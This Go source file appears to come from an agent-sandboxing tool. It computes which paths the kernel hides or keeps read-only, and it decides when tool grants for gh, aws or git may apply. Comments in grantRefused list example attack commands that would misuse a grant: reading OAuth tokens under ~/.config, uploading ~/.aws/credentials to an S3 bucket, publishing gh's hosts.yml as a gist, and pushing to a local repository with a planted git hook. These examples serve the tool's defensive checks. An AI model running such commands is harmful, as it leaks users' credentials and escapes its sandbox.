package classify

import (
	"fmt"
	"io/fs"
	"path"
	"slices"
	"strings"

	"github.com/bmatcuk/doublestar/v4"

	"github.com/safezonehq/safezone/classify/shell"
	"github.com/safezonehq/safezone/policy"
	"github.com/safezonehq/safezone/policy/glob"
)

// What the kernel holds inside the sandbox roots (README, "What the kernel
// enforces"): a confined command can neither read nor write the files a
// Read deny rule matches, and cannot change the protected ones. Landlock
// alone cannot say this inside a directory it lets the command write, so
// the hook finds those files (package index walks the roots with a
// [PathMatcher]) and the launcher hides each in the command's own mount
// namespace.

// SpecPattern is one policy pattern in plain data: its anchor and glob
// (policy.Pattern's Anchor and Glob), and its text and position for
// reasons.
type SpecPattern struct {
	Anchor policy.Anchor `json:"a"`
	Glob   string        `json:"g"`
	Text   string        `json:"t,omitempty"`
	Source string        `json:"s,omitempty"`
}

// KernelSpec says which paths below the sandbox roots a confined command
// must not read or change: plain data (JSON), so that the index daemon
// (package index) can be given it and key its socket by it.
type KernelSpec struct {
	// Roots are the directories to search, resolved: the sandbox roots
	// (read_dirs included), whether or not the sandbox is on.
	Roots []string `json:"roots"`
	// Project and Home are every spelling of the project root and the home
	// directory, the anchors of ProjectRoot and Home patterns.
	Project []string `json:"project"`
	Home    []string `json:"home,omitempty"`
	// Templates are paths.templates, folded (see anchors.template).
	Templates []string `json:"templates,omitempty"`
	// Hide are the patterns of Read deny rules: what they match can be
	// neither read nor written.
	Hide []SpecPattern `json:"hide,omitempty"`
	// ReadOnly are the protected paths and the patterns of Edit and Write
	// deny rules: what they match cannot be changed.
	ReadOnly []SpecPattern `json:"readonly,omitempty"`
	// Skip are confine.program_writable: the trees the programs a command
	// runs rewrite whole (git's objects, node_modules). Nothing below them
	// is hidden or kept read-only, and they are not searched.
	Skip []SpecPattern `json:"skip,omitempty"`
}

// KernelSpec returns what the kernel must hide and keep read-only for a
// confined command of this call under p: the policy's Read deny rules,
// protected paths and Edit/Write deny rules, relative to this call's
// anchors; Skip holds confine.program_writable. A pattern that can only
// match outside every root still appears: the walk simply finds nothing
// for it.
func (r *Result) KernelSpec(p *policy.Policy) KernelSpec {
	s := KernelSpec{
		Project:   slices.Clone(r.anchors.project),
		Home:      slices.Clone(r.anchors.home),
		Templates: slices.Clone(r.anchors.templates),
	}
	for _, root := range r.Roots {
		if !slices.Contains(s.Roots, root.Resolved) {
			s.Roots = append(s.Roots, root.Resolved)
		}
	}
	pat := func(pt *policy.Pattern) SpecPattern {
		return SpecPattern{Anchor: pt.Anchor, Glob: pt.Glob, Text: pt.Text, Source: pt.Pos.String()}
	}
	for i := range p.Deny {
		ru := &p.Deny[i]
		if ru.Kind != policy.RulePath {
			continue
		}
		sp := pat(&ru.Path)
		sp.Text = ru.String()
		if ru.Access == policy.Read {
			s.Hide = append(s.Hide, sp)
		} else {
			s.ReadOnly = append(s.ReadOnly, sp)
		}
	}
	for i := range p.Protected {
		s.ReadOnly = append(s.ReadOnly, pat(&p.Protected[i]))
	}
	for i := range p.Confine.ProgramWritable {
		s.Skip = append(s.Skip, pat(&p.Confine.ProgramWritable[i]))
	}
	return s
}

// PathClass is what the kernel does with one path of a [KernelSpec]'s roots.
type PathClass uint8

const (
	// PathOpen: nothing; the ruleset's other rules apply.
	PathOpen PathClass = iota
	// PathHide: neither read nor written (a Read deny rule matches it).
	PathHide
	// PathReadOnly: read, not changed (protected, or an Edit/Write deny).
	PathReadOnly
	// PathSkip: below confine.program_writable; not searched.
	PathSkip
)

// PathMatcher classifies paths against a [KernelSpec]; it is safe for
// concurrent use.
type PathMatcher struct {
	spec                 KernelSpec
	hide, readOnly, skip []policy.Pattern
	anchors              anchors
}

// Matcher compiles s. It fails on a pattern whose glob is not valid (the
// spec did not come from a policy).
func (s KernelSpec) Matcher() (*PathMatcher, error) {
	m := &PathMatcher{spec: s, anchors: anchors{project: s.Project, home: s.Home, templates: s.Templates}}
	conv := func(ps []SpecPattern, what string) ([]policy.Pattern, error) {
		out := make([]policy.Pattern, 0, len(ps))
		for _, sp := range ps {
			if sp.Anchor > policy.Home || strings.ContainsRune(sp.Glob, 0) {
				return nil, fmt.Errorf("%s pattern %q: bad anchor or glob", what, sp.Text)
			}
			if !doublestar.ValidatePattern(sp.Glob) {
				return nil, fmt.Errorf("%s pattern %q: %q is not a valid glob", what, sp.Text, sp.Glob)
			}
			out = append(out, policy.Pattern{Anchor: sp.Anchor, Glob: sp.Glob, Text: sp.Text})
		}
		return out, nil
	}
	var err error
	if m.hide, err = conv(s.Hide, "hide"); err != nil {
		return nil, err
	}
	if m.readOnly, err = conv(s.ReadOnly, "read-only"); err != nil {
		return nil, err
	}
	if m.skip, err = conv(s.Skip, "program-writable"); err != nil {
		return nil, err
	}
	return m, nil
}

// Spec returns the spec m was compiled from.
func (m *PathMatcher) Spec() KernelSpec { return m.spec }

// Class returns what the kernel does with the absolute, clean path abs:
// skip beats hide, which beats read-only. A pattern that matches a
// directory covers everything below it, as in every other use of the
// policy's patterns; paths.templates are not reached by a pattern that
// does not name them.
func (m *PathMatcher) Class(abs string) PathClass {
	for i := range m.skip {
		if matchPattern(&m.skip[i], abs, &m.anchors) {
			return PathSkip
		}
	}
	for i := range m.hide {
		if matchPattern(&m.hide[i], abs, &m.anchors) {
			return PathHide
		}
	}
	for i := range m.readOnly {
		if matchPattern(&m.readOnly[i], abs, &m.anchors) {
			return PathReadOnly
		}
	}
	return PathOpen
}

// Why names the first pattern that gives abs its class (for explain), or
// "" for PathOpen.
func (m *PathMatcher) Why(abs string) string {
	for _, l := range []struct {
		ps    []policy.Pattern
		specs []SpecPattern
	}{{m.skip, m.spec.Skip}, {m.hide, m.spec.Hide}, {m.readOnly, m.spec.ReadOnly}} {
		for i := range l.ps {
			if matchPattern(&l.ps[i], abs, &m.anchors) {
				sp := l.specs[i]
				if sp.Source != "" {
					return sp.Text + " (" + sp.Source + ")"
				}
				return sp.Text
			}
		}
	}
	return ""
}

// grants sets r.Grants: the confine.grants whose command matches a simple
// command of this shell call, when the analysis knows every word of it and
// every other command is one whose accesses it knows (no program it cannot
// see into besides the granted tools). A grant widens what a confined
// command may reach, so a call that also runs something unknown gets none:
// that something would get it too. The tool must be named plainly and
// found by $PATH outside the directories the agent may write. The granted
// tool itself may be a
// program safezone cannot see into (gh, docker, npm): what it does with
// its grant is the tool's.
func (d *decider) grants(r *Result) {
	if !r.Confine || d.shell == nil || !d.shell.Known() || len(d.pol.Confine.Grants) == 0 {
		return
	}
	matched := make([]bool, len(d.pol.Confine.Grants))
	for j := range d.shell.Commands {
		c := &d.shell.Commands[j]
		granted := false
		// The tool must be the one $PATH finds outside every directory the
		// agent may write: a docker of the agent's own is not docker.
		trusted := len(c.Argv) > 0 && !strings.Contains(c.Argv[0], "/") && d.lookPath(c.Argv[0]) == ""
		for i := range d.pol.Confine.Grants {
			if trusted && matchShellRule(&d.pol.Confine.Grants[i].Command, c.Argv, true) {
				matched[i], granted = true, true
			}
		}
		if c.Runs != "" && !granted {
			return
		}
	}
	var grants []policy.Grant
	for i, m := range matched {
		if m {
			grants = append(grants, d.pol.Confine.Grants[i])
		}
	}
	if len(grants) == 0 {
		return
	}
	if why := d.grantRefused(r, grants); why != "" {
		r.GrantRefused = why
		return
	}
	r.Grants = grants
}

// grantRefused says why grants, matched by commands of the call, must not
// apply, or "". A grant holds for the whole confined process tree, so:
//
//   - every other command of the line must reach only paths inside the
//     sandbox roots (`gh --version; grep -r oauth ~/.config` would read
//     the token under gh's grant);
//   - a granted command must not name a path its grant exposes (`gh gist
//     create ~/.config/gh/hosts.yml`, `aws s3 cp ~/.aws/credentials
//     s3://x`): the grant lets the tool use its credentials, not hand them
//     on;
//   - a granted git command must run in a repository that is a sandbox
//     root's own (its .git/config and hooks kept read-only in the
//     kernel), against remotes reached over the network: a local
//     repository's hooks run with the grant (`git push /tmp/bare.git`
//     with a planted pre-receive hook), and a repository the agent may
//     write names the programs git runs (core.sshCommand).
func (d *decider) grantRefused(r *Result, grants []policy.Grant) string {
	granted := map[int]bool{}
	for j := range d.shell.Commands {
		c := &d.shell.Commands[j]
		for i := range grants {
			if len(c.Argv) > 0 && matchShellRule(&grants[i].Command, c.Argv, true) {
				granted[j] = true
			}
		}
	}
	for i := range r.Targets {
		t := &r.Targets[i]
		if granted[t.Cmd] {
			continue
		}
		views := t.views()
		for _, g := range t.Globs {
			dir, _ := glob.LiteralPrefix(g)
			views = append(views, path.Clean("/"+dir))
		}
		for _, v := range views {
			if !d.inside(v, t.Access) {
				return fmt.Sprintf("%s reaches %s, outside the sandbox, and would run with the grant", strings.Join(d.shell.Commands[t.Cmd].Argv, " "), v)
			}
		}
	}
	for j := range d.shell.Commands {
		if !granted[j] {
			continue
		}
		c := &d.shell.Commands[j]
		cwd := ""
		if len(c.Cwd) == 1 {
			cwd = c.Cwd[0]
		}
		for _, w := range c.Argv[1:] {
			if _, v, ok := strings.Cut(w, "="); ok && strings.HasPrefix(w, "-") {
				w = v
			}
			if !pathShaped(w) {
				continue
			}
			abs, err := absolute(w, cwd, d.env.Home)
			if err != nil || cwd == "" && !strings.HasPrefix(w, "/") && !strings.HasPrefix(w, "~") {
				return fmt.Sprintf("%s names %s, which safezone cannot place (no single working directory, or no home)", strings.Join(c.Argv, " "), w)
			}
			t := newTarget(d.fsys, "command", w, abs, policy.Read)
			for _, v := range t.views() {
				for gi := range grants {
					for k := range grants[gi].Read {
						if matchPattern(&grants[gi].Read[k], v, &r.anchors) {
							return fmt.Sprintf("%s names %s, which its grant would leave readable", strings.Join(c.Argv, " "), w)
						}
					}
				}
			}
		}
		if c.Argv[0] == "git" {
			if why := d.gitGrantRefused(c, cwd); why != "" {
				return why
			}
		}
	}
	return ""
}

// pathShaped reports whether a word of a granted command may name a file:
// it starts with "/", "~" or ".", or holds a "/" but is no URL.
func pathShaped(w string) bool {
	if strings.Contains(w, "://") {
		return false
	}
	return strings.HasPrefix(w, "/") || strings.HasPrefix(w, "~") || strings.HasPrefix(w, ".") || strings.Contains(w, "/")
}

// gitGrantRefused says why a granted git command (push, fetch, pull,
// ls-remote, clone, submodule) must not get its grant, or "": see
// grantRefused. The repository is found from cwd upwards; its remotes
// are read from its .git/config (`[remote "NAME"]` sections' url and
// pushurl).
func (d *decider) gitGrantRefused(c *shell.Command, cwd string) string {
	if cwd == "" {
		return "git's working directory is not known"
	}
	var sub string
	var operands []string
	for _, w := range c.Argv[1:] {
		switch {
		case strings.HasPrefix(w, "-"):
		case sub == "":
			sub = w
		default:
			operands = append(operands, w)
		}
	}
	if sub == "clone" {
		if len(operands) == 0 || !networkRemote(operands[0]) {
			return "git clone from a local repository needs no credentials, and its hooks would run with them"
		}
		return ""
	}
	top := ""
	for dir := cwd; ; dir = path.Dir(dir) {
		if _, err := d.fsys.Lstat(strings.TrimPrefix(path.Join(dir, ".git"), "/")); err == nil {
			top = dir
			break
		}
		if dir == "/" {
			break
		}
	}
	own := false
	for _, root := range d.roots {
		if top != "" && !root.ReadOnly && (top == root.Path || top == root.Resolved) {
			own = true
		}
	}
	if !own {
		return "git runs in a repository that is not a sandbox root's own, whose configuration the kernel does not keep read-only"
	}
	remotes := gitURLs(d.fsys, path.Join(top, ".git", "config"), "remote")
	if remotes == nil {
		return "git's configuration in " + top + " cannot be read, so its remotes are not known"
	}
	if sub == "submodule" {
		// The submodules' URLs come from .gitmodules, which the agent
		// may write.
		for n, urls := range gitURLs(d.fsys, path.Join(top, ".gitmodules"), "submodule") {
			remotes["submodule "+n] = urls
		}
	}
	names := []string{}
	if (sub == "push" || sub == "fetch" || sub == "pull" || sub == "ls-remote") && len(operands) > 0 {
		names = operands[:1]
	} else {
		for n := range remotes {
			names = append(names, n)
		}
	}
	for _, n := range names {
		urls, ok := remotes[n]
		if !ok {
			urls = []string{n}
		}
		for _, u := range urls {
			if !networkRemote(u) {
				return fmt.Sprintf("git reaches %s, a repository on this machine, whose hooks would run with the grant", u)
			}
		}
	}
	return ""
}

// networkRemote reports whether a git URL reaches another machine: a
// scheme of ssh, git, http or https, or scp's [user@]host:path; not a
// local path, file://, or a remote helper (ext::, fd::).
func networkRemote(u string) bool {
	for _, s := range []string{"ssh://", "git+ssh://", "ssh+git://", "git://", "http://", "https://"} {
		if strings.HasPrefix(u, s) {
			return true
		}
	}
	host, _, ok := strings.Cut(u, ":")
	return ok && host != "" && !strings.Contains(host, "/") && !strings.HasPrefix(u, ".") &&
		!strings.Contains(u, "::") && !strings.Contains(u, "://")
}

// gitURLs reads the url and pushurl of each [KIND "NAME"] section of the
// git configuration file at abs (git-config(1)'s syntax, simply: no
// includes, no continuation lines), by NAME; nil when it cannot be read.
func gitURLs(fsys fs.ReadLinkFS, abs, kind string) map[string][]string {
	data, err := fs.ReadFile(fsys, strings.TrimPrefix(abs, "/"))
	if err != nil {
		return nil
	}
	out := map[string][]string{}
	name := ""
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if strings.HasPrefix(line, "[") {
			name = ""
			if rest, ok := strings.CutPrefix(line, "["+kind+" \""); ok {
				if n, _, ok := strings.Cut(rest, "\"]"); ok {
					name = n
					out[name] = out[name]
				}
			}
			continue
		}
		if name == "" {
			continue
		}
		k, v, ok := strings.Cut(line, "=")
		if k = strings.ToLower(strings.TrimSpace(k)); ok && (k == "url" || k == "pushurl") {
			out[name] = append(out[name], strings.Trim(strings.TrimSpace(v), "\""))
		}
	}
	return out
}

// Granted returns the grant of r.Grants whose Read patterns match the
// absolute, clean path abs (or a directory above it), and whether there is
// one: the kernel leaves it readable.
func (r *Result) Granted(abs string) (*policy.Grant, bool) {
	for i := range r.Grants {
		g := &r.Grants[i]
		for k := range g.Read {
			if matchPattern(&g.Read[k], abs, &r.anchors) {
				return g, true
			}
		}
	}
	return nil, false
}
